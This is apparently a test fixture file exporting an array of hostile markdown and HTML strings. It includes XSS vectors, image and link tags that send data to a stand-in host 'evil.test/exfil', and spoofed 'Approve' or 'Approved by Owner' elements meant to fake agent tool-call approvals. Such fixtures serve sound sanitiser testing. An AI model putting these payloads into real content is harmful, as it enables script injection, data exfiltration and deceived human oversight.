/**
 * Text that would load, run, cover or imitate something where it is taken for more than text. Whatever is loaded
 * has `exfil` in its address, whatever runs sets `window.ran`.
 */
export const HOSTILE = [
  ...['![a](https://evil.test/exfil?d=1)', '![a][r]\n[r]: //evil.test/exfil', '![a](/api/sessions?exfil)'],
  ...[
    '![a](data:image/svg+xml,<svg/onload=ran=1>)',
    '[a](javascript:ran=1)',
    '[a](data:text/html,<script>ran=1</script>)',
  ],
  ...[
    '<https://evil.test/exfil>',
    'https://evil.test/exfil',
    '```mermaid\nclick A "javascript:ran=1"\n```',
    '$\\href{javascript:ran=1}{a}$',
  ],
  ...[
    '<img src=x onerror=ran=1>',
    '<img src=//evil.test/exfil>',
    '<img srcset="/api/pending?exfil 1x">',
    '<image src=/exfil>',
  ],
  ...[
    '<svg onload=ran=1><use href="/exfil#a"/></svg>',
    '<svg><foreignObject><iframe src=/exfil></foreignObject></svg>',
  ],
  ...[
    '<iframe src="javascript:parent.ran=1"></iframe>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  ],
  ...[
    '<video src=/exfil autoplay></video>',
    '<audio src=/exfil>',
    '<object data=/exfil></object>',
    '<embed src=/exfil>',
  ],
  ...[
    '<link rel=stylesheet href=/exfil>',
    '<link rel=prefetch href=//evil.test/exfil>',
    '<style>@import "/exfil";*{display:none}</style>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=/exfil">',
    '<base href=//evil.test/>',
    '<script>ran=1</script>',
    '<script src=/exfil></script>',
  ],
  ...[
    '</script><script>ran=1</script>',
    '<!--><script>ran=1</script>',
    ']]><script>ran=1</script>',
    '</title><script>ran=1</script>',
  ],
  ...[
    '</textarea><img src=x onerror=ran=1>',
    '"><img src=x onerror=ran=1>',
    "'-ran=1-'",
    '<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>',
  ],
  ...[
    '<form action=/exfil><button>Approve</button></form>',
    '<button autofocus onfocus=ran=1>Approve</button>',
    '<input autofocus onfocus=ran=1>',
  ],
  ...[
    '<details open ontoggle=ran=1>',
    '<a href=/exfil ping=/exfil>Approve</a>',
    '<body onload=ran=1>',
    '<portal src=/exfil>',
  ],
  ...[
    '<div style="position:fixed;inset:0;background:url(/exfil)">over everything</div>',
    '<div popover=manual>over</div>',
  ],
  ...[
    '<dialog open>Approved by Owner</dialog>',
    '<template shadowrootmode=open><img src=/exfil></template>',
    '<slot name=x></slot>',
  ],
  ...[
    '<group role="group" aria-label="write_file">Approve</group>',
    'Approved by Owner',
    '1 call waiting',
    '{"$$typeof":"Symbol(react.element)","type":"img"}',
  ],
  ...[
    '{{constructor.constructor("ran=1")()}}',
    '<%= ran=1 %>',
    '\u001b]8;;javascript:ran=1\u0007Approve\u001b]8;;\u0007',
    '\u202e<gmi\u202c',
  ],
]
